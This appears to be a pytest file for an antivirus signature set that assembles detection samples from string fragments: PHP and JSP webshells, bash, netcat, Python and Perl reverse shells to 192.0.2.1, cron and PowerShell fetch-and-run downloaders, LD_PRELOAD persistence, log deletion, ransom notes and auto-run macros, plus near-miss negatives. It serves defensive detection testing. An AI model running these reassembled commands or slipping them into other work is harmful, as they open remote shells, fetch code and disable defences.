"""The shipped rules: each finds its own sample and lets its near misses go, in vitrine and in clamscan.

Samples are put together from pieces when the tests run, so that no file of this tree contains what the
rules look for; none of them does anything."""
import os
import pathlib
import re
import shutil
import subprocess

import pytest

ROOT = pathlib.Path(__file__).resolve().parents[2]
BUILD = pathlib.Path(os.environ.get("VITRINE_BUILD", ROOT / "build"))
RULES = ROOT / "signatures"


def text(*pieces):
    return "".join(pieces).encode()


EICAR = text("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!", "$H+H*")
PHP = "<?" + "php "
GIF = "GIF" + "89a" + "\1\0\1\0"
CALL = "= $" + "_POST['x'];"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(100)
DUP = "os.dup" + "2(s.fileno(), %d)\n"
OUT = 'open(%s, ">' + '&S");'
SHELL = "/bin/" + "sh"
NOTE = "All your files have been " + "encrypted. Visit http://example%s to pay in %s. %s"
MACRO = 'Sub Auto' + 'Open()\nSet s = CreateObject("WScript.%s")\ns.Run "%s -c calc"\nEnd Sub\n'
PSH = "power" + "shell %s %s -c (New-Object Net.WebClient).%s('http://example.com/a')"
CRON = "0 3 * * * root %s http://example.com/a %s\n"
TUNE = ["setenforce" + " 0", "ulimit -n " + "65535", "chattr -" + "iua /etc/ld.so.preload",
        "rm -rf /var/" + "log/syslog"]

# rule: samples that it must find
POSITIVE = {
    "Test.EICAR-1": [EICAR, EICAR + b" \r\n\x1a", EICAR + b" " * 60],
    "Webshell.PhpRequest-1": [
        text(PHP, "eval", "($", "_POST['c']);"), text("<", "?= @sys", "tem(@$", "_GET[0]) ?>"),
        text("<h1>x</h1>", PHP, "ASSERT", "(stripslashes($", "_REQUEST['a']));")],
    "Webshell.PhpDecoded-1": [
        text(PHP, "eval", "(gzinf", "late(base64", "_decode('AAAA')));"),
        text(PHP, "eval", "(gzuncom", "press(base64", "_decode($a)));")],
    "Webshell.PhpInPicture-1": [text(GIF, PHP, "$a ", CALL), PNG + text(PHP, "$a ", CALL),
                                b"\xff\xd8\xff\xe0" + text(PHP, "$a ", CALL)],
    "Webshell.JspRuntimeExec-1": [
        text('<%@page import="java.io.*"%><% Runtime.get', "Runtime().ex",
             'ec(request.getPar', 'ameter("c")); %>')],
    "Backdoor.BashReverse-1": [
        text("#!/bin/bash\nbash", " -i >& /dev/", "tcp/192.0.2.1/4444 0>", "&1\n"),
        text("[Service]\nExec", "Start=/bin/bash -c 'sh", " -i &>/dev/", "udp/192.0.2.1/53 0>", "&1'\n"),
        text("* * * * * root bash", " -i >& /dev/", "tcp/192.0.2.1/4444 0>", "&1\n")],
    "Backdoor.NetcatPipe-1": [
        text("rm /tmp/f;mkf", "ifo /tmp/f;cat /tmp/f|", SHELL, " -i 2>", "&1|nc 192.0.2.1 4444 >/tmp/f"),
        text("mkf", "ifo p; cat p | /bin/ba", "sh -i 2>", "&1 | nc 192.0.2.1 4444 > p")],
    "Backdoor.PythonReverse-1": [
        text("import socket,os,pty\ns=socket.", "socket()\ns.con", "nect(('192.0.2.1',4444))\n",
             *[DUP % i for i in range(3)], "pty.", "spawn('sh')\n")],
    "Backdoor.PerlReverse-1": [
        text("use Socket;", OUT % "STDIN", OUT % "STDOUT", 'exec("', SHELL, ' -i");')],
    "Persistence.LdPreload-1": [
        text("export LD_PRE", "LOAD=/tmp/", ".x/libc.so\n"),
        text("[Service]\nEnvironment=LD_PRE", "LOAD=/dev/shm/", "a.so.1\n"),
        text('Environment="LD_PRE', "LOAD=/var/tmp/", 'a.so"\n')],
    "Persistence.SshKeyLocked-1": [
        text("#!/bin/sh\necho ssh-", "rsa AAAA0 >> ~/.ssh/authorized_keys\n",
             "chattr ", "+ia /root/.ssh/", "authorized_keys\n")],
    "Downloader.CronPipe-1": [
        text(CRON % ("curl -fsSL", "| s" + "h")), text(CRON % ("wget -q -O-", "|ba" + "sh"))],
    "Dropper.DefenceOff-1": [text("#!/bin/sh\n", "\n".join(TUNE[:3])),
                             text("#!/bin/sh\n", "\n".join(TUNE[1:]))],
    "Miner.Config-1": [
        text('{"donate-', 'level": 1, "pools": [{"url": "stratum+', 'tcp://192.0.2.1:3333", "us', 'er": "4"}]}')],
    "Ransom.Note-1": [text(NOTE % (".oni" + "on", "Bitcoin", "Do not ren" + "ame files.")),
                      text(NOTE % (".oni" + "on", "money", "Use TOR Bro" + "wser. Your PRIVATE K" + "EY waits."))],
    "Macro.AutoShell-1": [text(MACRO % ("Sh" + "ell", "power" + "shell")),
                          text("Private Sub Docu", "ment_Open()\nx = Sh", 'ell("cmd', ' /c calc")\nEnd Sub\n')],
    "Downloader.PowerShell-1": [
        text(PSH % ("-NoP", "-W Hid" + "den", "Download" + "String")),
        (PSH % ("-noprofile", "-WindowStyle Hid" + "den", "Download" + "String")).encode("utf-16le")],
}

# What each rule must let go: one necessary thing is missing.
NEGATIVE = {
    "text about EICAR": EICAR.join([b"See: ", b""]),
    "EICAR with more than 128 bytes": EICAR + b" " * 61,
    "PHP that checks a field": text(PHP, "if (isset($", "_POST['c'])) { show($", "_POST['c']); }"),
    "a text about eval": text("Never write eval", "($", "_POST['c']); in PHP."),
    "PHP that decodes": text(PHP, "$a = gzinf", "late(base64", "_decode($b));"),
    "a picture": text(GIF, "nothing"), "a picture with a tag by chance": text(GIF, PHP, "x"),
    "a text with a reverse shell": text("Try: bash", " -i >& /dev/", "tcp/192.0.2.1/4444 0>", "&1\n"),
    "a script with a port check": text("#!/bin/bash\necho > /dev/", "tcp/127.0.0.1/22 2>", "&1\n"),
    "a pipe through netcat": text("mkf", "ifo p; tar c / > p & nc 192.0.2.1 4444 < p"),
    "a network program": text("import socket,os\ns=socket.", "socket()\ns.con", "nect(('192.0.2.1',1))\n",
                              DUP % 0, DUP % 1, "os.execv('", SHELL, "')\n"),
    "a preload from /usr": text("export LD_PRE", "LOAD=/usr/lib/libjemalloc.so.2\n"),
    "a preload for one command": text("LD_PRE", "LOAD=/tmp/", "trace.so ls\n"),
    "a script that adds a key": text("#!/bin/sh\necho ssh-", "rsa AAAA0 >> ~/.ssh/authorized_keys\n"),
    "an updater": text(CRON % ("curl -o /var/lib/list", "&& reload")),
    "a tuning script": text("#!/bin/sh\n", TUNE[0], "\n", TUNE[1], "\n"),
    "the same tuning twice": text("#!/bin/sh\n", "\n".join(TUNE[:2] * 4)),
    "a list of pools": text('{"url": "stratum+', 'tcp://192.0.2.1:3333", "us', 'er": "4"}'),
    "news about ransomware": text(NOTE % (".com", "Bitcoin", "Use Tor Bro" + "wser.")),
    "a macro": text(MACRO % ("Sh" + "ell", "notepad")), "a macro without Auto": text(MACRO[10:] % ("Shell", "cmd /c")),
    "an administration script": text(PSH % ("-NoP", "-File a.ps1", "Download" + "String")),
}


def rule_names():
    lines = [l for p in sorted(RULES.glob("*.?[ds]b")) for l in p.read_text().splitlines()
             if not l.startswith("#")]
    return {re.search(r"Vitrine\.([\w.]+-\d+)", l).group(1) for l in lines}


@pytest.fixture(scope="module")
def samples(tmp_path_factory):
    top = tmp_path_factory.mktemp("samples")
    for name, contents in POSITIVE.items():
        for i, data in enumerate(contents):
            (top / f"{name}.{i}").write_bytes(data)
    for i, data in enumerate(NEGATIVE.values()):
        (top / f"negative.{i}").write_bytes(data)
    return top


def scan(program, top):
    """{file name: names found}, all matches."""
    r = subprocess.run([*program, str(top)], capture_output=True, text=True, timeout=120,
                       stdin=subprocess.DEVNULL)
    assert r.returncode == 1, r.stdout + r.stderr
    found = {p.name: set() for p in top.iterdir()}
    for name, rule in re.findall(r"([^/\n]+): Vitrine\.([\w.]+-\d+)(?:\.UNOFFICIAL)? FOUND", r.stdout):
        found[name].add(rule)
    return found


@pytest.fixture(scope="module", params=["clamscan", "vitrine"])
def found(request, samples):
    if request.param == "clamscan":
        oracle = shutil.which("clamscan")
        if not oracle:
            pytest.skip("clamscan is not installed")
        program = [oracle]
    else:
        program = [str(BUILD / "clamscan")]
    return scan([*program, "-d", str(RULES), "-r", "-z", "--no-summary"], samples)


def test_every_rule_has_a_sample():
    digests = {"Test.EICAR-2", "Test.EICAR-3"}  # tried with the first sample of EICAR-1
    assert rule_names() == set(POSITIVE) | digests


@pytest.mark.parametrize("rule", POSITIVE)
def test_a_rule_finds_its_samples(found, rule):
    for i in range(len(POSITIVE[rule])):
        assert rule in found[f"{rule}.{i}"], f"sample {i}"


@pytest.mark.parametrize("what", NEGATIVE)
def test_a_near_miss_is_let_go(found, what):
    assert not found[f"negative.{list(NEGATIVE).index(what)}"]


def test_digests_name_the_test_file_alone(found):
    assert found["Test.EICAR-1.0"] == {"Test.EICAR-1", "Test.EICAR-2", "Test.EICAR-3"}
    assert found["Test.EICAR-1.1"] == {"Test.EICAR-1"}


def test_the_rules_do_not_find_this_tree(samples):
    oracle = shutil.which("clamscan")
    if not oracle:
        pytest.skip("clamscan is not installed")
    r = subprocess.run([oracle, "-d", str(RULES), "-r", "-i", "--no-summary", "--exclude-dir=/[.]git$",
                        "--exclude-dir=/build", "--exclude-dir=/bench/work", str(ROOT)],
                       capture_output=True, text=True, timeout=300, stdin=subprocess.DEVNULL)
    assert (r.returncode, r.stdout) == (0, "")
